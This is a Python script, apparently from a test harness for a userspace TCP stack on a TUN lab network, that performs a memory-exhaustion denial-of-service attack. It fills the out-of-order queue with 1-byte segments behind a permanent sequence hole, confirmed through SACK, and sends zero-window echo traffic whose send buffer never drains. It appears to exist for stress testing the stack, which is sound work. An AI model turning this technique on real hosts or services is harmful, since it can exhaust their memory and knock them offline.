"""memory.py — hand-made connections that make the stack hold many 1-byte segments (attack 2).

  memory.py ooo --conns 4 --segments 512 [--filler BYTES] [--dport 80] [--ifname tunstack0] [--dst 10.77.0.2]
      each connection (from 10.77.1.10, .11, ...) completes the handshake, then sends SEGMENTS 1-byte
      segments at ISN+2, ISN+4, ...: the byte at ISN+1 never comes, so nothing can be delivered and
      every segment waits in the out-of-order queue (RFC 9293 §3.10.7.4: segments beyond RCV.NXT
      "SHOULD be held for later processing"). After each, BYTES of other traffic (1500-byte datagrams
      the stack reads and drops), as on a busy server: the held segments then lie far apart in the
      stack's read buffers instead of side by side.
  memory.py inorder --segments 2048 [--dport 7] [--window 0] [--filler BYTES] ...
      one connection sends SEGMENTS 1-byte segments in order, advertising WINDOW: to the echo port with
      a zero window, every byte is read and written back into a send buffer that can never drain.

Both pace themselves on the stack's ACKs, one segment at a time by default (--batch 1 for ooo,
--gap-us 300 for inorder), as a slow attacker would: each segment then arrives in a TUN read of its
own, the worst case for a stack that keeps views into its read chunks; MAX_SECONDS (45) bounds each.
They print JSON (segments sent, ACKs seen, segments the stack SACKed or acknowledged, seconds) and
leave the connections open: the stack holds what it holds until the script that called this stops it.
"""
import argparse
import json
import os
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(__file__))
import rawtcp  # noqa: E402


FILLER_SRC = rawtcp.ip_bytes("10.77.1.200")
FILLER_DST = "10.77.0.99"  # on the TUN's link but not the stack's address: read, then dropped


def filler_packets(nbytes):
    """Packets of other traffic: 1500-byte IPv4 datagrams (protocol 253, RFC 3692 experimentation)
    to an address on the link that is not the stack's, which reads them and drops them."""
    n = (nbytes + 1499) // 1500
    pkt = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 1500, 0, 0x4000, 64, 253, 0, FILLER_SRC,
                      rawtcp.ip_bytes(FILLER_DST)) + bytes(1480)
    return [pkt] * n


def ooo(a, raw, sn):
    sent = acks = confirmed = 0
    filler = filler_packets(a.filler)
    t0 = time.monotonic()
    deadline = t0 + a.max_seconds
    for i in range(a.conns):
        c = rawtcp.Client(raw, sn, "10.77.1.%d" % (10 + i), 40000 + i, a.dst, a.dport)
        c.connect()
        base = (c.iss + 2) & 0xFFFFFFFF  # ISN+1 is the first data byte: left out, a hole for ever
        k = 0
        while k < a.segments:
            batch = min(a.batch, a.segments - k)
            for j in range(batch):
                c.send(rawtcp.ACK | rawtcp.PSH, seq=base + 2 * (k + j), payload=b"x")
                for f in filler:
                    raw.send(f, FILLER_DST)
            sent += batch
            k += batch
            # RFC 5681 §4.2: out-of-order segments are ACKed at once (a duplicate ACK; the stack sends
            # one per batch it reads), and the SACK option's first block (RFC 2018 §4) names the most
            # recent one held. Wait for that ACK (0.2 s at most): it says the batch was read; if its
            # SACK names the batch's last segment, the stack holds it ("confirmed"), else it dropped it.
            last_end = (base + 2 * (k - 1) + 1) & 0xFFFFFFFF
            wait_end = time.monotonic() + 0.2
            while time.monotonic() < wait_end:
                seg = c.next_segment(wait_end - time.monotonic())
                if seg is None or not seg.flags & rawtcp.ACK:
                    continue
                acks += 1
                blocks = rawtcp.option_value(seg.options, 5)
                if blocks is not None and len(blocks) >= 8 and int.from_bytes(blocks[4:8], "big") == last_end:
                    confirmed += batch
                break
            if time.monotonic() > deadline:
                return result(sent, acks, confirmed, t0, timed_out=True)
    return result(sent, acks, confirmed, t0, timed_out=False)


def result(sent, acks, confirmed, t0, timed_out):
    return {"sent": sent, "acks": acks, "confirmed": confirmed, "seconds": round(time.monotonic() - t0, 3),
            "timed_out": timed_out}


def inorder(a, raw, sn):
    c = rawtcp.Client(raw, sn, "10.77.1.50", 41000, a.dst, a.dport)
    c.connect(window=65535)
    start = c.snd_nxt
    # To the HTTP port the bytes are a request line that never ends: "GET /aaaa..."
    text = (b"GET /" if a.dport == 80 else b"") + b"a" * a.segments
    filler = filler_packets(a.filler)
    # Unacknowledged segments at most: with other traffic after each, few enough that all of it fits
    # the TUN's queue (500 packets), or the kernel drops some and the go-back below costs a second.
    max_out = 64 if not filler else max(1, 384 // (len(filler) + 1))
    t0 = time.monotonic()
    deadline = t0 + a.max_seconds
    acked = 0  # bytes the stack has acknowledged
    nxt = 0  # next byte to send (offset from start)
    sent = acks = resends = 0
    last_progress = time.monotonic()
    while acked < a.segments and time.monotonic() < deadline:
        if nxt < a.segments and nxt - acked < max_out:
            c.send(rawtcp.ACK | rawtcp.PSH, seq=start + nxt, window=a.window, payload=text[nxt:nxt + 1])
            for f in filler:
                raw.send(f, FILLER_DST)
            nxt += 1
            sent += 1
        # A gap between segments, so the stack reads each one on its own (one TUN read each).
        seg = c.next_segment(a.gap_us / 1e6 if nxt < a.segments else 0.05)
        if seg is not None and seg.flags & rawtcp.ACK:
            acks += 1
            off = (seg.ack - start) & 0xFFFFFFFF
            if acked < off <= a.segments:
                acked = off
                last_progress = time.monotonic()
        elif time.monotonic() - last_progress > 1.0:
            nxt = acked  # no progress: go back and send again from the first unacknowledged byte
            resends += 1
            last_progress = time.monotonic()
    return {"sent": sent, "acked": acked, "acks": acks, "resends": resends, "seconds": round(time.monotonic() - t0, 3),
            "timed_out": acked < a.segments}


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("mode", choices=["ooo", "inorder"])
    p.add_argument("--conns", type=int, default=4)
    p.add_argument("--segments", type=int, default=512)
    p.add_argument("--dport", type=int, default=80)
    p.add_argument("--window", type=int, default=0)
    p.add_argument("--batch", type=int, default=1, help="ooo: segments sent before waiting for their SACK")
    p.add_argument("--filler", type=int, default=0, help="bytes of other traffic after each segment")
    p.add_argument("--gap-us", type=int, default=300, help="inorder: pause between segments")
    p.add_argument("--dst", default="10.77.0.2")
    p.add_argument("--ifname", default="tunstack0")
    p.add_argument("--max-seconds", type=float, default=45)
    a = p.parse_args()
    if (not 1 <= a.conns <= 200 or not 1 <= a.segments <= 100000 or not 0 <= a.window <= 65535
            or not 1 <= a.batch <= 1024 or not 0 <= a.gap_us <= 100000 or not 0 <= a.filler <= 1 << 20):
        p.error("--conns 1..200, --segments 1..100000, --window 0..65535, --batch 1..1024, --gap-us 0..100000, "
                "--filler 0..1048576")
    raw, sn = rawtcp.Raw(), rawtcp.Sniffer(a.ifname)
    try:
        r = ooo(a, raw, sn) if a.mode == "ooo" else inorder(a, raw, sn)
    except TimeoutError as e:
        print(json.dumps({"error": str(e)}))
        sys.exit(1)
    print(json.dumps(r))


if __name__ == "__main__":
    main()
